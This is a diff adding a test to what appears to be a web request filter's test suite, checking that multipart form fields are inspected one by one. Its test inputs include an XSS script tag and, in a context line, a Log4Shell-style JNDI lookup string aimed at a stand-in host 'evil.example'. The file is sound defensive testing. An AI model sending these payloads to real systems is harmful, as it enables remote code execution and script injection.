@@ -107,6 +107,22 @@ describe('detect policy', () => {
     assert.equal(xml.verdict.kind === 'deny' && xml.verdict.rule, 'xxe.external-entity');
   });
 
+  test('reads multipart forms part by part: a one-field form passes, an attack in a part is located', () => {
+    const handlers = create();
+    const type = { 'content-type': 'multipart/form-data; boundary=X' };
+    const part = (name: string, value: string) =>
+      `--X\r\nContent-Disposition: form-data; name="${name}"\r\n\r\n${value}\r\n`;
+    const plain = run(handlers, { url: '/u', headers: type, body: `${part('name', 'John')}--X--\r\n` });
+    assert.equal(plain.verdict.kind, 'continue');
+    assert.deepEqual(plain.events, []);
+    const attack = run(handlers, {
+      url: '/u',
+      headers: type,
+      body: `${part('bio', '<script>alert(1)</script>')}--X--\r\n`,
+    });
+    assert.equal(attack.verdict.kind === 'deny' && attack.verdict.location, 'body.bio');
+  });
+
   test('inspects selected headers, cookies and the raw path', () => {
     const handlers = create();
     const ua = run(handlers, { url: '/', headers: { 'user-agent': '${jndi:ldap://evil.example/a}' } });
